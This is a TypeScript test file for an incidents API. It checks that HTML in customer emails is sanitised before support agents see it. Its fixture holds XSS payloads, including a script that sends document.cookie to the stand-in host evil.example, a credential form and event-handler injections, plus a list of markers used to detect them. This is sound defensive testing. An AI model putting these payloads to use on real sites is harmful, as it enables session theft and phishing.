import { S3Client } from '@aws-sdk/client-s3';
import { mockClient } from 'aws-sdk-client-mock';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EntryView } from '../../../functions/incidents/entry-bodies.js';
import {
  ENTRY_INLINE_BODY_BYTES,
  entryBodyKey,
  processMessage,
} from '../../../functions/techmail/process-message.js';
import {
  apiEvent,
  lambdaContext,
  readReply,
} from '../../support/api-gateway.js';
import { startHandlerEnvironment } from '../../support/handler-environment.js';
import { rawMail } from '../../support/raw-mail.js';
import { addMailbox, type TestStores } from '../../support/stores.js';

const s3 = mockClient(S3Client);
const NOW = new Date('2026-12-04T11:30:00.000Z');

/** Markup a hostile sender might use against an agent's browser. */
const HOSTILE_HTML = [
  '<p onclick="steal()">Hello <b>agent</b></p>',
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<img src="https://tracker.example/pixel.gif" onerror="steal()">',
  '<img src="cid:logo@customer.example" alt="logo">',
  '<a href="javascript:steal()">click</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<form action="https://evil.example/login"><input name="password"></form>',
  '<div style="background: url(https://tracker.example/bg.png)">styled</div>',
  '<svg onload="steal()"><use href="#x"/></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<object data="https://evil.example/x.swf"></object>',
].join('\n');

let stores: TestStores;
let handler: typeof import('../../../functions/incidents-api.js').handler;

beforeAll(async () => {
  stores = await startHandlerEnvironment();
  ({ handler } = await import('../../../functions/incidents-api.js'));
});

afterAll(async () => {
  s3.reset();
  await stores.stop();
});

/** A multipart/related message: the HTML and the image it shows inline. */
function hostileMail(html: string, messageId: string): Buffer {
  const png = Buffer.from('89504e470d0a1a0a', 'hex').toString('base64');

  return rawMail({
    messageId,
    contentType: 'multipart/related; boundary="rel"',
    body: [
      '--rel',
      'Content-Type: text/html; charset=utf-8',
      '',
      html,
      '--rel',
      'Content-Type: image/png; name="logo.png"',
      'Content-Transfer-Encoding: base64',
      'Content-ID: <logo@customer.example>',
      'Content-Disposition: inline; filename="logo.png"',
      '',
      png,
      '--rel--',
    ].join('\r\n'),
  });
}

async function htmlThroughApi(html: string, messageId: string) {
  const mailbox = await addMailbox(stores);
  const result = await processMessage(
    mailbox,
    { uid: 'uid', raw: hostileMail(html, messageId) },
    stores,
    NOW,
  );
  const ref = result.referenceNumber as string;
  const reply = readReply(
    await handler(
      apiEvent('GET', `/incidents/${ref}`, {
        resource: '/incidents/{referenceNumber}',
        pathParameters: { referenceNumber: ref },
      }),
      lambdaContext('incidents-api'),
    ),
  );
  const [entry] = (reply.json as { entries: EntryView[] }).entries;

  return { ref, html: entry?.html ?? '', stored: entry };
}

function expectHarmless(html: string): void {
  for (const marker of [
    '<script',
    'onclick',
    'onerror',
    'onload',
    'javascript:',
    '<iframe',
    '<form',
    '<input',
    '<svg',
    '<meta',
    '<object',
    'url(',
    'tracker.example',
    'cid:',
  ]) {
    expect(html.toLowerCase()).not.toContain(marker);
  }
}

describe('incidents API: HTML shown to agents', () => {
  it('returns only allow-listed markup, with the inline image served by the API', async () => {
    const { ref, html } = await htmlThroughApi(
      HOSTILE_HTML,
      '<hostile-1@customer.example>',
    );

    expectHarmless(html);
    expect(html).toContain('<b>agent</b>');
    expect(html).toMatch(
      new RegExp(`<img [^>]*src="/incidents/${ref}/attachments/[0-9a-f]{64}"`),
    );
  });

  it('links a body too large to keep on the entry to its sanitised copy in the bucket', async () => {
    const padding = `<p>${'filler '.repeat(ENTRY_INLINE_BODY_BYTES / 7)}</p>`;

    const { ref, stored } = await htmlThroughApi(
      `${HOSTILE_HTML}\n${padding}`,
      '<hostile-2@customer.example>',
    );
    const key = entryBodyKey(ref, stored?.entryId ?? '');
    const body = await stores.blobs.get(key);
    const { html } = JSON.parse(body?.toString('utf8') ?? '{}');

    expect(stored).toMatchObject({ bodyTruncated: true });
    expect(stored?.bodyUrl).toContain(key);
    expect(stored).not.toHaveProperty('html');
    expect(html.length).toBeGreaterThan(ENTRY_INLINE_BODY_BYTES);
    expectHarmless(html);
  });
});
